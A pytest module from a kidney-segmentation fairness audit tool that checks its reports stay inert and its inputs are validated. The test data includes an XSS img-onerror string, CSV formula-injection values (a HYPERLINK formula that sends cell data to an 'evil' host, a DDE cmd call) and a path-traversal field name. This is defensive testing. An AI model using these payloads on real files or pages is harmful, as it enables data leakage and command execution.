"""No silent wrong results, nothing in a report that runs (issue 43): stale tables, contradictory
headers, duplicate keys, markup and formulas in names and values, giant sizes in a checkpoint,
implausible metadata. The hostile corpus of tests/test_hostile_inputs.py, grown by these cases; each
test fails on the code before the issue. (Stale predictions of --ckpt: tests/test_evaluate_ckpt.py.)
"""
from __future__ import annotations

import json
import time
from html.parser import HTMLParser
from pathlib import Path

import nibabel as nib
import numpy as np
import pandas as pd
import pytest
import torch

import evaluate
from data.errors import CaseError
from data.nifti import kits_affine, read_volume, write_volume
from data.untrusted import parse_json, parse_yaml
from models.checkpoint import CheckpointError, model_from_checkpoint
from tests.kits_fixtures import make_case_arrays, write_tiny_cohort

SHAPE, SPACING = (12, 20, 24), (4.0, 0.9, 0.9)
FAST = ["--no-progress", "--n-boot", "20", "--n-perm", "100"]
MARKUP = "x'><img src=x onerror=alert(1)>"
FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tx"]


@pytest.fixture(scope="module")
def cohort(tmp_path_factory):
    """raw/ (8 cases), preds/ (imperfect predictions)."""
    root = tmp_path_factory.mktemp("silent")
    write_tiny_cohort(root / "raw", n_cases=8, shape=SHAPE, spacing=SPACING)
    _, labels = make_case_arrays(SHAPE)
    for i in range(8):
        pred = labels.copy()
        pred[3:3 + i % 4, 5:14, 6:16][pred[3:3 + i % 4, 5:14, 6:16] == 1] = 0
        write_volume(root / "preds" / f"case_{i:05d}.nii.gz", pred, kits_affine(SPACING), spacing=SPACING)
    return root


def metadata_with(cohort: Path, tmp_path: Path, **fields) -> Path:
    """kits.json of the cohort with extra fields, one value per case (lists cycled)."""
    entries = json.loads((cohort / "raw" / "kits.json").read_text())
    for i, entry in enumerate(entries):
        for name, values in fields.items():
            entry[name] = values[i % len(values)]
    path = tmp_path / "kits.json"
    path.write_text(json.dumps(entries))
    return path


def audit(cohort: Path, out: Path, *extra) -> int:
    return evaluate.main(["--pred", str(cohort / "preds"), "--gt", str(cohort / "raw"), "--out", str(out), *FAST,
                          *extra])


# --- stale tables -------------------------------------------------------------------------------------

def test_overwrite_removes_what_the_previous_audit_wrote_and_the_page_shows_only_this_one(cohort, tmp_path):
    out = tmp_path / "a"
    assert audit(cohort, out, "--group", "sex", "age") == 0
    assert (out / "groups_age.csv").is_file()
    assert audit(cohort, out, "--group", "sex", "--cases", "case_00000,case_00001,case_00002,case_00003",
                 "--overwrite") == 0
    left = {p.name for p in out.iterdir()}
    assert not {"groups_age.csv", "summary_age.csv", "report_age.md", "report_age.tex", "box_age.png"} & left
    page = (out / "report.html").read_text()
    assert "By age" not in page and len(pd.read_csv(out / "per_case.csv")) == 4
    assert json.loads((out / ".fairkits-audit.json").read_text()).count("groups_sex.csv") == 1


def test_a_killed_audits_tables_never_reach_the_next_page(cohort, tmp_path):
    out = tmp_path / "b"
    out.mkdir()
    pd.DataFrame({"n": [3], "mean": [0.5]}, index=pd.Index(["x"], name="age")).to_csv(out / "groups_age.csv")
    (out / ".groups_sex.csv.tmp99999999.abc").write_text("torn")     # a killed writer's temporary
    assert audit(cohort, out, "--group", "sex") == 0
    assert not (out / "groups_age.csv").exists() and not list(out.glob(".*.tmp*"))
    assert "By age" not in (out / "report.html").read_text()


# --- headers that say two things ---------------------------------------------------------------------

def test_a_prediction_whose_qform_and_sform_disagree_is_refused_naming_both(cohort, tmp_path, capsys):
    preds = tmp_path / "preds"
    preds.mkdir()
    for path in sorted((cohort / "preds").glob("*.nii.gz")):
        (preds / path.name).write_bytes(path.read_bytes())
    img = nib.load(str(preds / "case_00002.nii.gz"))
    flipped = img.affine.copy()
    flipped[:3, 0] *= -1                       # the data as a qform-reading tool would see them: mirrored in z
    header = img.header.copy()
    header.set_sform(img.affine, code=1)
    header.set_qform(flipped, code=1)
    nib.save(nib.Nifti1Image(np.asanyarray(img.dataobj), None, header=header), str(preds / "case_00002.nii.gz"))
    with pytest.raises(CaseError, match="qform .* and sform .* disagree"):
        read_volume(preds / "case_00002.nii.gz")
    assert evaluate.main(["--pred", str(preds), "--gt", str(cohort / "raw"), "--out", str(tmp_path / "o"), *FAST]) == 1
    err = capsys.readouterr().err
    assert "case_00002" in err and "qform (code 1" in err and "sform (code 1" in err
    assert "case_00002" not in set(pd.read_csv(tmp_path / "o" / "per_case.csv")["case_id"])


# --- duplicate keys -------------------------------------------------------------------------------------

def test_every_json_refuses_a_key_written_twice(cohort, tmp_path, capsys):
    text = '{"case_00001": {"gender": "female", "age_at_nephrectomy": 50}, "case_00001": {"gender": "male"}}'
    with pytest.raises(CaseError, match="the key 'case_00001' appears twice"):
        parse_json(text, "kits.json")
    with pytest.raises(CaseError, match="the key 'gender' appears twice"):
        parse_json('[{"case_id": "case_00001", "gender": "female", "gender": "male"}]', "kits.json")
    with pytest.raises(CaseError, match="the key 'lr' appears twice"):
        parse_yaml("optim:\n  lr: 0.1\n  lr: 0.2\n", "c.yaml")
    meta = tmp_path / "kits.json"
    entries = json.loads((cohort / "raw" / "kits.json").read_text())
    body = ", ".join(f'"{e["case_id"]}": {json.dumps({k: v for k, v in e.items() if k != "case_id"})}' for e in entries)
    meta.write_text("{" + body + f', "case_00001": {json.dumps(entries[1])}' + "}")
    assert audit(cohort, tmp_path / "o", "--meta", str(meta)) == 2
    assert "kits.json: the key 'case_00001' appears twice" in capsys.readouterr().err


# --- nothing in a report runs, no cell is a formula ------------------------------------------------------

class Page(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v or "") for k, v in attrs]


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "nav", "a", "section", "dl", "dt",
                "dd", "p", "ul", "li", "div", "table", "thead", "tbody", "tr", "th", "td", "span", "img", "figure",
                "figcaption", "details", "summary", "footer", "code", "script", "br", "em", "strong"}


def assert_inert(page_text: str) -> None:
    page = Page()
    page.feed(page_text)
    assert set(page.tags) <= ALLOWED_TAGS, set(page.tags) - ALLOWED_TAGS
    assert page.tags.count("script") == 1                              # the page's own sorting script only
    for tag, name, value in page.attrs:
        assert not name.startswith("on"), (tag, name, value)
        assert "javascript:" not in value.lower()
        if tag == "img":
            assert name != "src" or value.startswith("data:image/png;base64,"), value
        if name in ("id", "href"):
            assert "<" not in value and ">" not in value or value.startswith("#"), (tag, name, value)
    assert "<img src=x" not in page_text and "onerror=alert" not in page_text.replace("onerror=alert(1)&gt;", "")


def test_markup_in_names_values_and_rules_is_inert_on_the_page(cohort, tmp_path):
    from fairness.html_report import ReportContext, build_html

    meta = metadata_with(cohort, tmp_path, site=[MARKUP, "<b>bold</b>", "a&b"])
    out = tmp_path / "o"
    assert audit(cohort, out, "--meta", str(meta), "--group", "site") == 0
    assert_inert((out / "report.html").read_text())
    # a folder read after the fact, with a planted table whose name is markup, and a hostile title and rule
    planted = tmp_path / "planted"
    planted.mkdir()
    for path in out.iterdir():
        if path.is_file():
            (planted / path.name).write_bytes(path.read_bytes())
    (planted / f"groups_{MARKUP}.csv").write_bytes((out / "groups_site.csv").read_bytes())
    pd.DataFrame({"rank": [1], "rule": [MARKUP], "n": [3], "mean": [0.5], "rest_mean": [0.8], "gap": [0.3],
                  "p": [0.01], "p_holm": [0.02], "confirmed": [True]}).to_csv(planted / "slices.csv", index=False)
    page = build_html(planted, ReportContext(title=MARKUP, audited=[("model", MARKUP)], command=MARKUP))
    assert_inert(page)
    assert "x&#x27;&gt;&lt;img src=x onerror=alert(1)&gt;" in page      # the name is shown, as text


def test_a_metadata_field_named_with_markup_is_refused_before_scoring(cohort, tmp_path, capsys):
    start = time.perf_counter()
    assert audit(cohort, tmp_path / "o", "--group", MARKUP) == 2
    assert "is not a metadata field name" in capsys.readouterr().err
    assert audit(cohort, tmp_path / "p", "--group", "a/../../x") == 2
    assert "'a/../../x' is not a metadata field name" in capsys.readouterr().err
    assert not (tmp_path / "o").exists() and not (tmp_path / "p").exists() and time.perf_counter() - start < 5


def test_formula_cells_are_neutralised_in_every_csv_and_markup_in_markdown(cohort, tmp_path):
    meta = metadata_with(cohort, tmp_path, site=FORMULAS + ["ok", "ok2", "ok3"])
    out = tmp_path / "o"
    assert audit(cohort, out, "--meta", str(meta), "--group", "site") == 0
    for path in (out / "per_case.csv", out / "groups_site.csv"):
        text = path.read_text()
        for formula in FORMULAS[:3]:
            assert f",{formula}" not in text and not any(line.startswith(formula) for line in text.splitlines())
            assert "'" + formula.split("(")[0] in text
    per_case = pd.read_csv(out / "per_case.csv")
    assert pd.api.types.is_float_dtype(per_case["mean"])                          # numbers stay numbers
    assert "-2+3" not in per_case["site"].tolist() and "'-2+3" in per_case["site"].tolist()
    meta = metadata_with(cohort, tmp_path, site=[MARKUP])
    assert audit(cohort, tmp_path / "m", "--meta", str(meta), "--group", "site") == 0
    assert "<img" not in (tmp_path / "m" / "report_site.md").read_text()


# --- sizes a checkpoint gives, metadata a person typed ---------------------------------------------------

def test_a_giant_num_classes_is_refused_before_anything_is_built():
    from models import build_model

    model = build_model({"name": "nnunet", "base_features": 4, "max_features": 16}, patch_size=(16, 32, 32),
                        in_channels=1, num_classes=3)
    config = {"model": {"name": "nnunet", "base_features": 4, "max_features": 16}, "train": {"patch_size": [16, 32, 32]}}
    for change, message in ((dict(num_classes=10 ** 9), "num_classes = 1000000000"),
                            (dict(config={**config, "model": {**config["model"], "max_features": 10 ** 7}}),
                             "model.max_features = 10000000"),
                            (dict(config={**config, "train": {"patch_size": [4096, 4096, 4096]}}), "patch_size")):
        ckpt = {"config": config, "model": model.state_dict(), "num_classes": 3, **change}
        start = time.perf_counter()
        with pytest.raises(CheckpointError, match=message):
            model_from_checkpoint(ckpt, where="odd.pt")
        assert time.perf_counter() - start < 2
    wider = {"config": {**config, "model": {**config["model"], "max_features": 32}}, "model": model.state_dict(),
             "num_classes": 3}       # in bounds, but not the weights' network: found on the meta device
    with pytest.raises(CheckpointError, match="the config gives .* the weights"):
        model_from_checkpoint(wider, where="odd.pt")
    assert isinstance(model_from_checkpoint({"config": config, "model": model.state_dict(), "num_classes": 3}),
                      torch.nn.Module)


@pytest.mark.parametrize("age, message", [("65", "is the text '65'; expected a number"),
                                          ("６５", "is the text '６５'; expected a number"),
                                          (1e308, "outside the plausible range 0-120"),
                                          (-40, "age_at_nephrectomy -40 is outside the plausible range 0-120")])
def test_implausible_metadata_is_one_line_naming_the_case_whatever_the_grouping(cohort, tmp_path, capsys, age, message):
    entries = json.loads((cohort / "raw" / "kits.json").read_text())
    entries[3]["age_at_nephrectomy"] = age
    meta = tmp_path / "kits.json"
    meta.write_text(json.dumps(entries))
    assert audit(cohort, tmp_path / "o", "--meta", str(meta), "--group", "sex") == 1
    err = capsys.readouterr().err
    assert f"case_00003: " in err and message in err
    assert "case_00003" not in set(pd.read_csv(tmp_path / "o" / "per_case.csv")["case_id"])
    entries[3]["age_at_nephrectomy"], entries[4]["body_mass_index"] = 60, 250
    meta.write_text(json.dumps(entries))
    assert audit(cohort, tmp_path / "b", "--meta", str(meta), "--group", "sex") == 1
    assert "body_mass_index 250 is outside the plausible range 10-100" in capsys.readouterr().err
